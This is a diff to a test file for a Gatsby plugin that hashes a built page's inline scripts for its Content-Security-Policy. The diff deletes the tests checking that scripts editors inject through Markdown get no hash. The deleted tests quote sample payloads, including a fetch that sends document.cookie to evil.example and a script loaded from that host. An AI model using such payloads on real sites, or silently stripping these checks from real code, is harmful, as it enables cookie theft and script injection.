@@ -3,13 +3,7 @@
  *
  * Which inline scripts of a built page get a hash in its Content-Security-Policy.
  */
-import {
-  cspHash,
-  filesWithScripts,
-  findScripts,
-  isExecutableInline,
-  pageScriptHashes,
-} from "../../plugins/post-build/inline-scripts";
+import { cspHash, findScripts, isExecutableInline, pageScriptHashes } from "../../plugins/post-build/inline-scripts";
 
 // The inline scripts Gatsby writes into every page, shortened.
 const gatsby = {
@@ -22,7 +16,7 @@ const gatsby = {
 const gatsbyHashes = Object.values(gatsby).map(cspHash);
 const jsonLd = '{"@context":"https://schema.org","@type":"Organization"}';
 
-/** A page shaped like Gatsby's output, with `body` where a page renders Markdown HTML. */
+/** A page shaped like Gatsby's output. */
 function page(body: string): string {
   return [
     `<!DOCTYPE html><html lang="en"><head><script type="module">${gatsby.headImage}</script>`,
@@ -36,8 +30,6 @@ function page(body: string): string {
     `<script src="/webpack-runtime-411c99b32f2905b8356c.js" async></script></body></html>`,
   ].join("");
 }
-
-const terms = (html: string) => ({ file: "content/pages/terms.md", html });
 
 describe("cspHash", () => {
   it("gives the hash of the Content-Security-Policy specification's example", () => {
@@ -78,51 +70,8 @@ describe("findScripts and isExecutableInline", () => {
 
 describe("pageScriptHashes", () => {
   it("hashes each of Gatsby's executable inline scripts once, and not the JSON-LD", () => {
-    const hashes = pageScriptHashes(page("<p>Terms</p>"), [terms("<p>Terms</p>")]);
+    const hashes = pageScriptHashes(page("<p>Terms</p>"));
     expect(hashes).toEqual(gatsbyHashes);
     expect(hashes).not.toContain(cspHash(jsonLd));
-  });
-
-  it("gives no hash to a script an editor put in Markdown", () => {
-    const editorHtml = "<p>Terms</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>";
-    const hashes = pageScriptHashes(page(editorHtml), [terms(editorHtml)]);
-    expect(hashes).not.toContain(cspHash("fetch('https://evil.example/?' + document.cookie)"));
-    expect(hashes).toEqual(gatsbyHashes);
-  });
-
-  it("gives no hash to an editor's script when another page repeats its text outside the Markdown", () => {
-    // The page holds the script but not the whole Markdown HTML (as an excerpt or a transformed copy would).
-    const editorHtml = "<p>Intro</p>\n<script>steal()</script>";
-    const otherPage = page("<p>No Markdown here</p>").replace("</main>", "<script>steal()</script></main>");
-    expect(pageScriptHashes(otherPage, [terms(editorHtml)])).toEqual(gatsbyHashes);
-  });
-
-  it("gives no hash to an unclosed editor script that swallows Gatsby's script loader", () => {
-    // On a page without images the browser would run "steal();/* …page… /*<![CDATA[*/window.pagePath=…/*]]>*/"
-    // as one valid script: the editor's code, then a comment, then the loader's statement.
-    const editorHtml = "<p>Terms</p><script>steal();/*";
-    const built = page(editorHtml).replace(/<img[^>]*><script type="module">[^<]*<\/script>/g, "");
-    const swallowed = findScripts(built).find((script) => script.text.startsWith("steal();"));
-    expect(swallowed?.text).toMatch(/^steal\(\);\/\*<\/div>.*window\.pagePath="\/terms";\/\*\]\]>\*\/$/);
-    const hashes = pageScriptHashes(built, [terms(editorHtml)]);
-    expect(hashes).not.toContain(cspHash(swallowed!.text));
-    expect(hashes).toEqual([cspHash(gatsby.headImage), cspHash(gatsby.chunkMap), cspHash(gatsby.compilationHash)]);
-  });
-
-  it("is not fooled by an editor script in upper case or with attributes", () => {
-    const editorHtml = '<SCRIPT type="text/javascript" defer>steal()</SCRIPT>';
-    expect(pageScriptHashes(page(editorHtml), [terms(editorHtml)])).toEqual(gatsbyHashes);
-  });
-});
-
-describe("filesWithScripts", () => {
-  it("names the content files whose Markdown HTML holds a script", () => {
-    expect(
-      filesWithScripts([
-        terms("<p>ok</p>"),
-        { file: "content/about/about.md", html: "<p>x</p><script>y()</script>" },
-        { file: "content/hero/a.md", html: "<Script\nsrc=//evil.example/x.js>" },
-      ]),
-    ).toEqual(["content/about/about.md", "content/hero/a.md"]);
   });
 });
